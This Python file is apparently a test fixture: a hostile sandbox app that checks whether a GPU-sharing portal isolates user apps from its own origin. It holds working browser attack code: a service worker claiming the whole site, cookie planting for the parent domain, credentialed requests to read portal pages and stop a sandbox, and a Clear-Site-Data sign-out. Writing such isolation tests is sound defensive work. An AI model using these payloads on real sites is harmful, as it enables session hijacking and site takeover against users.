"""A hostile sandbox app, run in a sandbox by tests/browser/test_app_origin_browser.py as
``python3 -c <this file's text>``: what a poisoned package in a notebook could serve.

Its page plants cookies for the whole site (document.cookie and Set-Cookie, the portal's
names and the app session's), registers a service worker for ``/`` (its script sent with
``Service-Worker-Allowed: /``, as the review's probe did), tries to read a portal page and to
stop its own sandbox through the portal with the user's cookies, fetches an answer that
carries ``Clear-Site-Data: "cookies"`` (which would sign the user out of the whole site), and
writes what happened into ``#log``. The worker answers every page load in its scope with its
own page.
"""

import http.server
import os
import socketserver

PORTAL = os.environ.get("HOSTILE_PORTAL", "")  # replaced by the test before the sandbox starts
SANDBOX = os.environ.get("GPUSHARE_SANDBOX_ID", "0")
WORKER = b"""
self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => {
  if (e.request.mode !== 'navigate') return;  // pages only: the page's own fetches go out
  e.respondWith(new Response('<!doctype html><title>owned</title><h1>owned by the app</h1>',
                             {headers: {'content-type': 'text/html'}}));
});
"""
PAGE = """<!doctype html><title>hostile app</title><pre id=log></pre><script>
const log = m => { document.getElementById('log').textContent += m + '\\n'; };
(async () => {
  try {
    // Beside its page, wherever it is served (the review's probe: under the portal's
    // /sandboxes/<id>/app/), claiming the whole origin.
    const reg = await navigator.serviceWorker.register('sw.js', {scope: '/'});
    await navigator.serviceWorker.ready;
    log('worker: ' + reg.scope);
  } catch (e) { log('worker failed: ' + e); }
  try {
    const r = await fetch('PORTAL/projects/', {credentials: 'include'});
    log('read portal: ' + r.status + ' ' + (await r.text()).slice(0, 80));
  } catch (e) { log('read portal: blocked'); }
  try {
    await fetch('PORTAL/sandboxes/SANDBOX/stop/', {method: 'POST', credentials: 'include', mode: 'no-cors'});
    log('stop asked');
  } catch (e) { log('stop blocked'); }
  const parent = location.hostname.split('.').slice(-2).join('.');
  for (const c of ['sessionid=js; path=/', `sessionid=js; domain=${parent}; path=/`,
                   '__Host-sessionid=js; path=/; secure', `csrftoken=js; domain=${parent}; path=/`,
                   `__Host-csrftoken=js; domain=${parent}; path=/; secure`,
                   `gpushare_device=js; domain=${parent}; path=/`, 'gpushare_app=js; path=/']) {
    document.cookie = c;
  }
  await fetch('bye');  // its answer would clear the whole site's cookies: the portal's too
  log('cookies here: ' + document.cookie);
  document.title = 'done';
})();
</script>"""


class Hostile(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path.endswith("/sw.js"):
            self.answer(WORKER, "text/javascript", [("Service-Worker-Allowed", "/")])
            return
        if self.path.endswith("/bye"):
            self.answer(b"bye", "text/plain", [("Clear-Site-Data", '"cookies"')])
            return
        parent = ".".join(self.headers.get("host", "").split(":")[0].split(".")[-2:])  # the site
        planted = [
            ("Set-Cookie", f"sessionid=header; Domain={parent}; Path=/"),
            ("Set-Cookie", "__Host-sessionid=header; Path=/; Secure"),
            ("Set-Cookie", "__Host-gpushare_app=header; Path=/; Secure"),
        ]
        page = PAGE.replace("PORTAL", PORTAL).replace("SANDBOX", SANDBOX).encode()
        self.answer(page, "text/html; charset=utf-8", planted)

    def answer(self, body: bytes, kind: str, extra: list[tuple[str, str]]) -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        for name, value in extra:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


class Server(socketserver.ThreadingUnixStreamServer):
    daemon_threads = True


Server(os.environ["GPUSHARE_APP_SOCKET"], Hostile).serve_forever()
